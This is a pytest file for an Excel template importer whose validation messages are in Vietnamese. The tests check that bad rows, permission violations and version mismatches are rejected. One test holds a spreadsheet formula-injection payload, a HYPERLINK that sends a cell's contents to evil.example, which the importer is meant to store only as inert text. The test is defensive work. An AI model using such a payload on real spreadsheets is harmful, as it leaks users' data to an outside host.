"""A filled template with problems is rejected whole, every problem named by sheet, row and column."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from dti.engine import parse_framework
from dti.importers.template_xlsx import DATA_SHEET, TemplateImportError, read_template, write_template

from .conftest import SMALL, fill


def _problems(path, framework, **kw):
    with pytest.raises(TemplateImportError) as exc:
        read_template(path, framework, **kw)
    return exc.value.problems


def test_it_rejects_a_file_with_five_bad_rows_listing_exactly_five_problems(tmp_path, small, two_units):
    blank = write_template(tmp_path / "mau.xlsx", small, two_units, expert=True)
    rows = fill(blank, tmp_path / "sai.xlsx", {
        ("ND", "I.1"): {"status": "Xong rồi"},
        ("ND", "I.3"): {"count": -3},
        ("ND", "II.2"): {"numerator": 10, "denominator": 5},
        ("PD", "II.1"): {"date": "32/13/2024"},
        ("PD", "II.3"): {"expert_score": 25, "expert_reason": "vượt"},
        ("PD", "I.2"): {"count": 2},  # a good row: still nothing is imported
    })
    problems = _problems(tmp_path / "sai.xlsx", small)
    got = {(p.sheet, p.row, p.column, p.field) for p in problems}
    assert got == {
        (DATA_SHEET, rows[("ND", "I.1")], "G", "status"),
        (DATA_SHEET, rows[("ND", "I.3")], "K", "count"),
        (DATA_SHEET, rows[("ND", "II.2")], "I", "numerator"),
        (DATA_SHEET, rows[("PD", "II.1")], "M", "date"),
        (DATA_SHEET, rows[("PD", "II.3")], "O", "expert_score"),
    }
    assert len(problems) == 5
    by_field = {p.field: str(p) for p in problems}
    assert by_field["count"] == f"Số liệu, dòng {rows[('ND', 'I.3')]}, cột K (Số lượng): không được âm (-3)"
    assert "tử số (10) lớn hơn mẫu số (5)" in by_field["numerator"]
    assert "Xong rồi" in by_field["status"]
    assert "ngoài khoảng 0–20" in by_field["expert_score"]


def test_it_reads_a_formula_as_its_literal_text(tmp_path, small, two_units):
    blank = write_template(tmp_path / "mau.xlsx", small, two_units)
    link = '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")'
    fill(blank, tmp_path / "f.xlsx", {("ND", "I.3"): {"count": 30, "explanation": link}})
    (entry,) = read_template(tmp_path / "f.xlsx", small).entries
    assert entry.explanation == link
    # and written back (prefilled) it is stored as text, not as a formula
    again = write_template(tmp_path / "lai.xlsx", small, two_units, existing=[entry])
    cell = next(c for row in load_workbook(again)[DATA_SHEET].iter_rows(min_row=2) for c in row if c.value and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s"
    assert read_template(again, small).entries == [entry]


def test_it_reads_a_formula_in_a_number_cell_as_a_bad_number(tmp_path, small, two_units):
    blank = write_template(tmp_path / "mau.xlsx", small, two_units)
    fill(blank, tmp_path / "f.xlsx", {("ND", "I.3"): {"count": "=20+4"}})
    (p,) = _problems(tmp_path / "f.xlsx", small)
    assert (p.column, p.field) == ("K", "count") and "=20+4" in p.message


def test_it_rejects_rows_outside_the_callers_permissions(tmp_path, small, two_units):
    blank = write_template(tmp_path / "mau.xlsx", small, two_units)
    rows = fill(blank, tmp_path / "p.xlsx", {
        ("ND", "I.3"): {"count": 30},
        ("PD", "I.3"): {"count": 10},
        ("PD", "II.2"): {"numerator": 1, "denominator": 2},
    })
    problems = _problems(tmp_path / "p.xlsx", small, allowed_units={"PD"}, allowed_criteria={"I.3"})
    assert [(p.row, p.column) for p in problems] == [(rows[("ND", "I.3")], "A"), (rows[("PD", "II.2")], "C")]
    assert problems[0].message == "Bạn không có quyền nhập số liệu cho đơn vị Nam Đông (ND)"
    assert problems[1].message == "Bạn không có quyền nhập số liệu cho tiêu chí II.2"
    ok = read_template(tmp_path / "p.xlsx", small, allowed_units={"ND", "PD"}, allowed_criteria={"I.3", "II.2"})
    assert len(ok.entries) == 3


def test_it_rejects_a_template_of_another_framework_version(tmp_path, small, two_units):
    blank = write_template(tmp_path / "mau.xlsx", small, two_units)
    newer = parse_framework({**SMALL, "version": 2})
    (p,) = _problems(blank, newer)
    assert "phiên bản 1" in p.message and "phiên bản 2" in p.message


def test_it_rejects_rows_whose_codes_were_edited(tmp_path, small, two_units):
    blank = write_template(tmp_path / "mau.xlsx", small, two_units)
    wb = load_workbook(blank)
    ws = wb[DATA_SHEET]
    ws.protection.sheet = False
    ws["C2"] = "II.1"  # someone unprotected the sheet and changed a code
    ws["M2"] = "01/01/2024"
    wb.save(tmp_path / "sua.xlsx")
    (p,) = _problems(tmp_path / "sua.xlsx", small)
    assert (p.row, p.field) == (2, "criterion") and "không khớp" in p.message


def test_it_rejects_a_file_that_is_not_a_template(tmp_path, small):
    path = tmp_path / "khac.xlsx"
    path.write_bytes(b"not a zip")
    (p,) = _problems(path, small)
    assert "không đọc được" in p.message
